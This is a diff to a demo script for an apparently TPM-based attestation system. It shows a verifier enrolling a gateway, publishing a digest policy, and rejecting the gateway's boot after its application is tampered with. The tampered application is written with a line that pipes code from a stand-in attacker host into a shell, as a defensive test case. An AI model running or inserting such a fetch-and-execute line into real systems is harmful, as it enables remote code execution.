@@ -17,7 +17,9 @@ run() { printf '   $ %s\n' "$*"; "$@" 2>&1 | sed 's/^/     /'; return "${PIPESTA
 
 work=$(mktemp -d /tmp/gatewarden-demo.XXXXXX)
 swtpm_pid=
+verifier_pid=
 cleanup() {
+  if [ -n "$verifier_pid" ]; then kill "$verifier_pid" 2>/dev/null || true; wait "$verifier_pid" 2>/dev/null || true; fi
   if [ -n "$swtpm_pid" ] && kill -0 "$swtpm_pid" 2>/dev/null; then
     swtpm_ioctl --tcp "127.0.0.1:$ctrl" -s >/dev/null 2>&1 || kill "$swtpm_pid" 2>/dev/null || true
   fi
@@ -151,5 +153,79 @@ rc=$?
 set -e
 [ "$rc" -eq 17 ] || { printf 'Unexpected exit %d, expected 17.\n' "$rc" >&2; exit 1; }
 
+
+# ---------------------------------------------------------------- verifier ---
+printf '\n%sPart 2: the verifier service%s\n' "$bold" "$norm"
+V=("$B/gwverifier")
+vport=$(free_port_pair)
+
+say "Set up a verifier: its CA, TLS certificate and gate key, trusting the TPM maker's EK CA."
+run "${V[@]}" init "$work/verifier" --listen "127.0.0.1:$vport" \
+  --ek-ca /var/lib/swtpm-localca/swtpm-localca-rootca-cert.pem \
+  --ek-ca /var/lib/swtpm-localca/issuercert.pem --id demo-verifier
+VC=(--config "$work/verifier/verifier.conf")
+"${V[@]}" serve "${VC[@]}" >"$work/verifier.log" 2>&1 &
+verifier_pid=$!
+for _ in $(seq 100); do
+  python3 -c "import socket; socket.create_connection(('127.0.0.1', $vport), 0.2)" 2>/dev/null && break
+  sleep 0.1
+done
+printf '   gwverifier serve runs on https://127.0.0.1:%s (log: verifier.log)\n' "$vport"
+
+say "The gateway's application is put right again, and the gateway reboots."
+printf '#!/bin/sh\necho gateway application v1.4\n' >"$work/gateway/gateway-app"
+power_on
+run "${A[@]}" boot
+
+say "The gateway enrolls: the verifier checks its EK certificate and challenges its TPM."
+set +e
+run "${A[@]}" enroll --verifier "https://127.0.0.1:$vport" --ca "$work/verifier/ca.pem" \
+  --device-id gw-demo-01 --model gw-1000
+set -e
+printf '   The TPM proved it holds the EK and the AK (TPM2_ActivateCredential);\n'
+printf '   the device now waits for an operator.\n'
+
+say "The operator sees the new device and approves it."
+run "${V[@]}" device list "${VC[@]}"
+run "${V[@]}" device approve "${VC[@]}" gw-demo-01
+
+say "The gateway collects its TLS certificate and pins the verifier's gate key."
+run "${A[@]}" enroll --verifier "https://127.0.0.1:$vport" --ca "$work/verifier/ca.pem" \
+  --device-id gw-demo-01 --model gw-1000
+
+say "A release engineer publishes the model's policy: the allowed digest of each stage."
+python3 - "$work" >"$work/policy.json" <<'PY'
+import hashlib, json, sys
+w = sys.argv[1]
+h = lambda f: hashlib.sha256(open(f'{w}/gateway/{f}', 'rb').read()).hexdigest()
+print(json.dumps({"model": "gw-1000", "version": 1,
+                  "pcr_selection": "sha256:0,1,2,3,4,5,6,7,13,14",
+                  "stages": {"rootfs": [h("rootfs.img")], "application": [h("gateway-app")],
+                             "config": [h("app.conf")]}}, indent=2))
+PY
+sed 's/^/     /' "$work/policy.json"
+run "${V[@]}" policy add "${VC[@]}" "$work/policy.json"
+
+say "The gateway attests: challenge, quote, appraisal, a signed result."
+run "${A[@]}" attest
+
+say "The attacker swaps the application again; the gateway reboots and attests."
+printf '#!/bin/sh\necho gateway application v1.4; curl -s http://evil.example | sh\n' >"$work/gateway/gateway-app"
+power_on
+run "${A[@]}" boot
+set +e
+run "${A[@]}" attest
+rc=$?
+set -e
+[ "$rc" -eq 24 ] || { printf 'Unexpected: attest exited %d, expected 24 (contraindicated).\n' "$rc" >&2; exit 1; }
+printf '   Contraindicated, naming the stage: this gateway gets no update authorization.\n'
+
+say "The operator's view: the fleet, the device's history, and the audit chain."
+run "${V[@]}" status "${VC[@]}"
+run "${V[@]}" history "${VC[@]}" gw-demo-01
+run "${V[@]}" audit "${VC[@]}"
+run "${V[@]}" audit verify "${VC[@]}"
+
 printf '\n%sDemo complete.%s The good boot passed; the tampered stage and the forged log\n' "$bold" "$norm"
-printf 'were both caught, each with the stage or PCR named.\n'
+printf 'were caught offline, each named; the verifier enrolled the gateway through its\n'
+printf 'TPM, affirmed the good boot and refused the tampered one, and audited it all.\n'
